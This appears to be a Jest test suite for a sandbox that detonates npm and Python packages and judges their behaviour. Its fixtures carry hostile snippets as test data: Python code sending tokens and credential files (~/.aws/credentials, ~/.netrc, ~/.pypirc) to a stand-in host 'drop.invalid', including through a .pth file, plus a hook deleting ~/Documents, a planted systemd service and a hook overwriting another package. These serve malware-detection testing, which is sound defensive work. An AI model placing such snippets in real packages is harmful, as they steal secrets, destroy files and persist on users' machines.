import { npmPackage } from '@sallyport/analysis/testing';
import { behaviourContract, behaviourDigest, judgeTrace, newBehaviours } from '@sallyport/domain';
import { detonationRange, everything, hook, INDEX, type DetonationRange } from '../support/detonation';

// Two cages one after the other, each with a strace: seconds where nothing else runs, more on a busy machine.
jest.setTimeout(300_000);

describe('detonation: what is run, and what that leaves behind', () => {
  let range: DetonationRange;
  beforeAll(async () => {
    range = await detonationRange({ phaseMs: 20_000 });
  });
  afterAll(() => range.cleanUp());

  describe('what stays or breaks', () => {
    it('holds what the session would start', async () => {
      const seen = await range.npm(
        {},
        {
          'index.js': `
          const folder = process.env.HOME + '/.config/systemd/user';
          require('fs').mkdirSync(folder, { recursive: true });
          require('fs').writeFileSync(folder + '/update.service', '[Service]');`,
        },
      );

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-stays');
    });

    it('suspects what changes the code of another package, which it finds beside it', async () => {
      const other = await npmPackage({ name: 'other' }, { 'index.js': "module.exports = 'other';" });
      const bytes = await npmPackage(hook('change.js'), {
        'index.js': "if (require('other') !== 'changed') throw new Error('not laid out');",
        'change.js':
          "require('fs').writeFileSync(require.resolve('other'), \"module.exports = 'changed';\");",
      });
      const { file } = range.subject('npm', 'tarball', other);

      const trace = await range.detonator.detonate({
        ...range.subject('npm', 'tarball', bytes),
        dependencies: [{ file, kind: 'tarball', path: 'node_modules/other' }],
      });

      expect(judgeTrace(trace).verdict).toBe('suspicious');
      expect(trace.environments.flatMap(({ phases }) => phases.flatMap(({ files }) => files))).toContainEqual(
        {
          ...{ act: 'write', path: '<project>/node_modules/other/index.js', planted: null },
        },
      );
    });

    it('lays no dependency outside of the project', async () => {
      const subject = range.subject('npm', 'tarball', await npmPackage({}, INDEX));
      const outside = { file: subject.file, kind: 'tarball' as const, path: 'node_modules/../../../tmp/x' };

      await expect(range.detonator.detonate({ ...subject, dependencies: [outside] })).rejects.toMatchObject({
        code: 'scan-failed',
      });
    });

    it('holds the deletion of what was there before', async () => {
      const seen = await range.npm(hook('wipe.js'), {
        ...INDEX,
        'wipe.js': "require('fs').rmSync(process.env.HOME + '/Documents', { recursive: true });",
      });

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-destroys');
    });
  });

  describe('Python', () => {
    const SEND = (token: string) =>
      `import os, urllib.request; urllib.request.urlopen('https://drop.invalid/in', data=${token}.encode())`;

    it('runs .pth files at the start of the interpreter', async () => {
      const seen = await range.wheel({
        'sample.pth': `${SEND("os.environ['NPM_TOKEN'][::-1]")}\n`,
        'sample/__init__.py': 'x = 1\n',
      });

      expect(seen.verdict).toBe('malicious');
      const [start] = everything(seen).filter(({ phase }) => phase === 'start');
      expect(start?.canaries).toContainEqual({
        ...{ canary: 'NPM_TOKEN', where: 'sent', to: 'drop.invalid', encodings: ['reversed'] },
      });
    });

    it('imports modules', async () => {
      const seen = await range.wheel({
        'sample/__init__.py': `${SEND("open(os.path.expanduser('~/.pypirc')).read()")}\n`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(
        everything(seen)
          .filter(({ canaries }) => canaries.length > 0)
          .map(({ label }) => label),
      ).toContain('import sample');
    });

    it('builds sdists', async () => {
      const seen = await range.sdist({
        'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
        'setup.py': `${SEND("open(os.path.expanduser('~/.aws/credentials')).read()")}\n`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen)[0]).toMatchObject({
        ...{ phase: 'install', label: 'build' },
        canaries: [{ canary: '~/.aws/credentials', where: 'sent', to: 'drop.invalid' }],
      });
    });

    it('puts what lies in the .data folder where an installer does', async () => {
      const seen = await range.wheel({
        'sample-1.0.0.data/purelib/sample.pth': `${SEND("os.environ['NPM_TOKEN']")}\n`,
        'sample-1.0.0.data/platlib/sample_more.py': `${SEND("open(os.path.expanduser('~/.netrc')).read()")}\n`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen).flatMap(({ canaries }) => canaries.map(({ canary }) => canary))).toEqual(
        expect.arrayContaining(['NPM_TOKEN', '~/.netrc']),
      );
    });

    it('imports the modules of a folder that is no package', async () => {
      const seen = await range.wheel({ 'sample/deep/module.py': `${SEND("os.environ['NPM_TOKEN']")}\n` });

      expect(seen.verdict).toBe('malicious');
    });

    it('concludes nothing from an sdist whose build makes no wheel', async () => {
      const seen = await range.sdist({
        'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
        'setup.py': 'import sys\nsys.exit(0)\n',
      });

      expect(seen.verdict).toBe('unknown');
    });

    it('says nothing of an honest wheel', async () => {
      const seen = await range.wheel({
        'sample/__init__.py': 'import json, subprocess, urllib.request\nfrom . import inner\n',
        'sample/inner.py': 'from pathlib import Path\nROOT = Path.home() / ".sample"\n',
      });

      expect(seen).toMatchObject({ verdict: 'clean', findings: [] });
    });
  });

  describe('what is honest', () => {
    it('says nothing of a package without hooks', async () => {
      const seen = await range.npm(
        { exports: { '.': './index.js', './more': './more.mjs' } },
        {
          'index.js':
            "const os = require('os'); module.exports = { home: os.homedir(), env: process.env.NODE_ENV };",
          'more.mjs': "import { readFileSync } from 'node:fs'; export const read = readFileSync;",
        },
      );

      expect(seen).toMatchObject({ verdict: 'clean', findings: [] });
      expect(everything(seen).map(({ label }) => label)).toEqual([
        ...['start of node', 'import sample', 'import sample/more'],
        ...['start of node', 'import sample', 'import sample/more'],
      ]);
    });

    it('loads what is only required, beside what is imported', async () => {
      const seen = await range.npm(
        { exports: { '.': { import: './index.mjs', require: './index.cjs' } } },
        {
          'index.mjs': 'export default 1;',
          'index.cjs': "require('net').connect(80, '192.0.2.9').on('error', () => 0).end();",
        },
      );

      expect(
        everything(seen)
          .filter(({ connections }) => connections.length > 0)
          .map(({ label }) => label),
      ).toEqual(['require sample', 'require sample']);
    });

    it('concludes nothing from code that it has no way to run', async () => {
      const seen = await range.npm(
        { exports: { './*': './lib/*.js' } },
        { 'lib/index.js': 'module.exports = 1;' },
      );

      expect(seen.verdict).toBe('unknown');
    });

    it('stands where the lock has it, beside its own dependencies', async () => {
      const [first, second] = await Promise.all(
        ['1', '2'].map((value) =>
          npmPackage({ name: 'other' }, { 'index.js': `module.exports = ${value};` }),
        ),
      );
      const bytes = await npmPackage(
        {},
        { 'index.js': "if (require('other') !== 2) throw new Error('wrong one');" },
      );
      const [one, two] = [first, second].map((each) => range.subject('npm', 'tarball', each as Buffer).file);

      const trace = await range.detonator.detonate({
        ...range.subject('npm', 'tarball', bytes),
        path: 'node_modules/above/node_modules/sample',
        dependencies: [
          { file: one as string, kind: 'tarball', path: 'node_modules/other' },
          { file: two as string, kind: 'tarball', path: 'node_modules/above/node_modules/other' },
        ],
      });

      expect(judgeTrace(trace)).toEqual({ verdict: 'clean', findings: [] });
    });

    it('takes note of a hook that asks for updates, and holds it not', async () => {
      const seen = await range.npm(hook('check.js'), {
        ...INDEX,
        'check.js': "fetch('https://updates.invalid/sample/latest').then((reply) => reply.json());",
      });

      expect(seen.verdict).toBe('warning');
      expect(seen.codes).toEqual(['detonation-connects', 'detonation-starts-programs']);
    });

    it('keeps its behaviour, and tells what a later version does beside it', async () => {
      const files = {
        ...INDEX,
        'set-up.js': "require('fs').writeFileSync(__dirname + '/made-' + Date.now(), '1');",
      };
      const one = await range.npm(hook('set-up.js'), files);
      const again = await range.npm(hook('set-up.js'), files);
      const later = await range.npm(
        { version: '1.0.1', ...hook('set-up.js') },
        { ...files, 'index.js': "require('net').connect(80, '192.0.2.9').on('error', () => 0).end();" },
      );

      const [first, second, third] = [one, again, later].map(({ trace }) => behaviourContract(trace)) as [
        ReturnType<typeof behaviourContract>,
        ReturnType<typeof behaviourContract>,
        ReturnType<typeof behaviourContract>,
      ];
      expect(behaviourDigest(second)).toBe(behaviourDigest(first));
      expect(newBehaviours(first, third)).toEqual([
        { phase: 'import', act: 'connect', what: '192.0.2.9:80', environments: ['workstation', 'ci'] },
      ]);
    });
  });
});
